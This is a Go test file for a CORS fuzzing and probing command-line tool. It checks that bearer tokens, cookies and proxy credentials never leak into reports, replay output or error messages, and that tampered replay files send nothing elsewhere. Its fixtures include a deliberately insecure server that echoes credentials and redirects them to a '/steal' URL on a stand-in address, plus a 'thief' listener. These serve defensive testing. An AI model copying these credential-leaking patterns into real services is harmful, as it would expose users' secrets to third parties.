package main

import (
	"encoding/base64"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// The secrets a user gives fuzz and probe, each unique enough to grep for.
const (
	secretToken  = "SECRETtok-9d8c7b6a5f"
	secretCookie = "SECRETcookie-1a2b3c4d"
	secretProxy  = "SECRETproxy-55aa66bb"
)

// allSecrets are the forms they take on the wire: Basic proxy credentials
// are base64, and a proxy that echoes them leaks them in that form.
var allSecrets = []string{secretToken, secretCookie, secretProxy, "Bearer " + secretToken, "sid=" + secretCookie,
	base64.StdEncoding.EncodeToString([]byte("proxyuser:" + secretProxy))}

// echoingServer is the worst case for redaction: it reflects any origin
// with credentials (so there are findings with evidence), copies the
// Authorization and Cookie it gets into response headers (also the CORS
// ones the reports quote) and redirects /redir off-scope with the token in
// the Location.
func echoingServer(t *testing.T, gotAuth *atomic.Int32) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth, cookie := r.Header.Get("Authorization"), r.Header.Get("Cookie")
		if strings.Contains(auth, secretToken) {
			gotAuth.Add(1)
		}
		w.Header().Set("X-Echo-Auth", auth)
		w.Header().Set("X-Echo-Cookie", cookie)
		w.Header().Set("X-Debug", "token="+strings.TrimPrefix(auth, "Bearer ")+"; c="+cookie)
		if o := r.Header.Get("Origin"); o != "" {
			w.Header().Set("Access-Control-Allow-Origin", o)
			w.Header().Set("Access-Control-Allow-Credentials", "true")
			w.Header().Set("Access-Control-Expose-Headers", "X-Echo-Auth, "+strings.TrimPrefix(auth, "Bearer "))
		}
		if r.Method == http.MethodOptions {
			w.Header().Set("Access-Control-Allow-Methods", "GET, PUT")
			w.Header().Set("Access-Control-Allow-Headers", "X-Token, Authorization, "+strings.TrimPrefix(auth, "Bearer "))
			w.WriteHeader(http.StatusNoContent)
			return
		}
		if r.URL.Path == "/redir" {
			http.Redirect(w, r, "http://127.0.0.2:9/steal?t="+strings.TrimPrefix(auth, "Bearer ")+"&c="+cookie, http.StatusFound)
			return
		}
		_, _ = io.WriteString(w, "ok "+auth)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// forwardProxy is an HTTP proxy that requires the user's proxy
// credentials and echoes the Proxy-Authorization it got.
func forwardProxy(t *testing.T, used *atomic.Int32) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		pa := r.Header.Get("Proxy-Authorization")
		if !r.URL.IsAbs() || pa == "" {
			http.Error(w, "proxy auth required", http.StatusProxyAuthRequired)
			return
		}
		used.Add(1)
		out := r.Clone(r.Context())
		out.RequestURI = ""
		out.Header.Del("Proxy-Authorization")
		resp, err := http.DefaultTransport.RoundTrip(out)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer func() { _ = resp.Body.Close() }()
		for k, vs := range resp.Header {
			w.Header()[k] = vs
		}
		w.Header().Set("X-Proxy-Echo", pa)
		w.WriteHeader(resp.StatusCode)
		_, _ = io.Copy(w, resp.Body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// Every output of fuzz and probe (text, JSON, SARIF, JUnit, JSONL stream,
// replay output, corpus directory, stderr, curl lines, error messages) is
// searched for every secret the user gave.
func TestSecretsAppearInNoOutput(t *testing.T) {
	var gotAuth, proxied atomic.Int32
	srv := echoingServer(t, &gotAuth)
	proxy := forwardProxy(t, &proxied)
	proxyURL := strings.Replace(proxy.URL, "http://", "http://proxyuser:"+secretProxy+"@", 1)
	dir := t.TempDir()
	secrets := []string{"-H", "Authorization: Bearer " + secretToken, "--cookie", "sid=" + secretCookie, "--proxy", proxyURL}
	fuzzArgs := func(more ...string) []string {
		args := []string{"fuzz", "--seed", "5", "--rate", "0", "--budget", "60", "--random", "4", "--no-progress",
			"--trusted-origin", "https://app.example.com", "--path", "/redir", "--corpus", filepath.Join(dir, "corpus")}
		return append(append(args, secrets...), append(more, srv.URL+"/")...)
	}
	type output struct{ name, text string }
	var outs []output
	record := func(name string, args []string, wantCode int) {
		t.Helper()
		text, code := run(t, args...)
		if code != wantCode {
			t.Fatalf("%s: exit %d, want %d\n%s", name, code, wantCode, text)
		}
		outs = append(outs, output{name, text})
	}
	record("fuzz text", fuzzArgs(), exitFindings)
	for _, f := range []string{"text", "json", "sarif", "junit"} {
		record("fuzz "+f, fuzzArgs("--format", f, "-o", filepath.Join(dir, "report."+f), "--stream", filepath.Join(dir, "stream-"+f+".jsonl")), exitFindings)
	}
	stream := filepath.Join(dir, "all.jsonl")
	record("fuzz jsonl", fuzzArgs("--format", "jsonl", "-o", stream), exitFindings)
	replay := append([]string{"fuzz", "--replay", stream}, secrets...)
	record("replay text", append(replay, srv.URL+"/"), exitFindings)
	record("replay json", append(replay, "--format", "json", srv.URL+"/"), exitFindings)
	probe := append([]string{"probe", srv.URL + "/", "--origin", "https://evil.test", "--credentials", "--method", "PUT",
		"-H", "X-Token: " + secretToken}, secrets...)
	record("probe text", probe, exitClean)
	record("probe json", append(probe, "--format", "json"), exitClean)
	// Mistakes that quote what the user typed.
	record("header without colon", []string{"fuzz", "-H", "Authorization Bearer " + secretToken, srv.URL + "/"}, exitError)
	record("lone token as header", []string{"fuzz", "-H", secretToken, srv.URL + "/"}, exitError)
	record("bad proxy URL", []string{"fuzz", "--proxy", "http://u:" + secretProxy + "@[::1", srv.URL + "/"}, exitError)
	record("userinfo in target", []string{"fuzz", "http://u:" + secretProxy + "@127.0.0.1:1/"}, exitError)
	record("userinfo in probe target", []string{"probe", "http://u:" + secretProxy + "@127.0.0.1:1/", "--origin", "https://a.test"}, exitError)

	err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		outs = append(outs, output{strings.TrimPrefix(path, dir), string(b)})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if gotAuth.Load() == 0 || proxied.Load() == 0 {
		t.Fatalf("the credentials never reached the server (%d) through the proxy (%d): the test proves nothing", gotAuth.Load(), proxied.Load())
	}
	files := 0
	for _, o := range outs {
		if strings.HasPrefix(o.name, "/") {
			files++
		}
		for _, s := range allSecrets {
			if i := strings.Index(o.text, s); i >= 0 {
				t.Errorf("%s contains the secret %q: …%s…", o.name, s, o.text[max(0, i-80):min(len(o.text), i+len(s)+20)])
			}
		}
	}
	if files < 9 || !strings.Contains(strings.Join(func() []string {
		var n []string
		for _, o := range outs {
			n = append(n, o.name)
		}
		return n
	}(), " "), ".origins") {
		t.Errorf("only %d output files were written (corpus included?): %v", files, outs)
	}
}

// An edited replay file cannot send the user's secrets anywhere: neither
// with the real target named on the command line nor without one, a
// request to another address leaves (nothing at all is replayed).
func TestEditedReplayFileSendsNothingElsewhere(t *testing.T) {
	var gotAuth atomic.Int32
	srv := echoingServer(t, &gotAuth)
	var stolen atomic.Int32
	thief := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no 127.0.0.2: %v", err)
	}
	thief.Listener = l
	thief.Start()
	t.Cleanup(thief.Close)
	edited := filepath.Join(t.TempDir(), "edited.jsonl")
	lines := `{"ruleId":"CG101","target":"` + srv.URL + `/","exchanges":[{"request":{"method":"GET","url":"` + srv.URL + `/","header":{"Origin":["https://evil.test"]},"credentials":true}}]}` + "\n" +
		`{"ruleId":"CG101","target":"` + srv.URL + `/","exchanges":[{"request":{"method":"GET","url":"` + thief.URL + `/steal","credentials":true}}]}` + "\n"
	if err := os.WriteFile(edited, []byte(lines), 0o644); err != nil {
		t.Fatal(err)
	}
	secrets := []string{"-H", "Authorization: Bearer " + secretToken, "--cookie", "sid=" + secretCookie}
	for _, extra := range [][]string{{srv.URL + "/"}, nil} {
		args := append(append([]string{"fuzz", "--replay", edited}, secrets...), extra...)
		out, code := run(t, args...)
		if code != exitError {
			t.Errorf("%v: exit %d, want %d\n%s", extra, code, exitError, out)
		}
	}
	if stolen.Load() != 0 || gotAuth.Load() != 0 {
		t.Fatalf("an edited replay file sent %d request(s) to another address and %d to the target", stolen.Load(), gotAuth.Load())
	}
}
